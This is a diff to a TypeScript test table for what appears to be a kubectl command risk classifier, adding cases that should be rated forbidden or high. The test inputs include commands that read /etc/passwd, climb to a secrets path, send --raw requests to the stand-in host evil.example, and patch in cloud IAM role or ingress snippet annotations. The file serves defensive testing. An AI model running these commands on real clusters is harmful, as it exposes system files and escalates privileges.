@@ -36,6 +36,13 @@ const localFileReads: Row[] = [
   ['kubectl debug node/n1 -it --image=busybox --custom=profile.json', 'forbidden', '--custom'],
   ['kubectl apply -f /tmp/fix.yaml', 'forbidden', 'an absolute path'],
   ['kubectl get -f C:/x', 'forbidden', 'SCP-style'],
+  ['kubectl get -f/etc/passwd', 'forbidden', 'an absolute path'],
+  ['kubectl get -f=/etc/passwd', 'forbidden', 'an absolute path'],
+  ['kubectl patch deploy web -n shop --patch-file=/etc/passwd', 'forbidden', 'an absolute path'],
+  ['kubectl patch deploy web -n shop --patch-file=../secrets/x.yaml', 'forbidden', 'climbs out'],
+  ['kubectl get --raw=https://evil.example/x', 'forbidden', '--raw names a URL'],
+  ['kubectl get --raw //evil.example/api', 'forbidden', '--raw names a URL'],
+  ['kubectl get --raw /api/v1/nodes', 'high', 'raw'],
 ];
 
 const remoteKustomizations: Row[] = [
@@ -115,6 +122,10 @@ const metadataKeys: Row[] = [
   ['kubectl patch deploy web -n shop -p \'{"spec":{"template":{"metadata":{"annotations":{"iam.amazonaws.com/role":"admin"}}}}}\'', 'forbidden', 'cloud IAM identity'],
   ['kubectl create ingress web -n shop --rule=a/=b:80 --annotation=nginx.ingress.kubernetes.io/server-snippet=x', 'forbidden', 'snippet'],
   ['kubectl annotate secret tok -n shop kubernetes.io/service-account.name=admin', 'forbidden', 'service-account token'],
+  // YAML patch bodies are read structurally too.
+  ["kubectl patch sa web -n shop -p 'metadata: {annotations: {eks.amazonaws.com/role-arn: x}}'", 'forbidden', 'cloud IAM identity'],
+  ["kubectl patch ing web -n shop -p '{metadata: {annotations: {nginx.ingress.kubernetes.io/configuration-snippet: x}}}'", 'forbidden', 'snippet'],
+  ["kubectl patch deploy web -n shop -p 'spec: {replicas: 0}'", 'high', 'scales to 0'],
   // Near misses: ordinary keys keep the verb's level.
   ['kubectl annotate deployment web -n shop oncall/note=restarted', 'medium'],
   ['kubectl label pod web-1 -n shop debug=true', 'medium'],
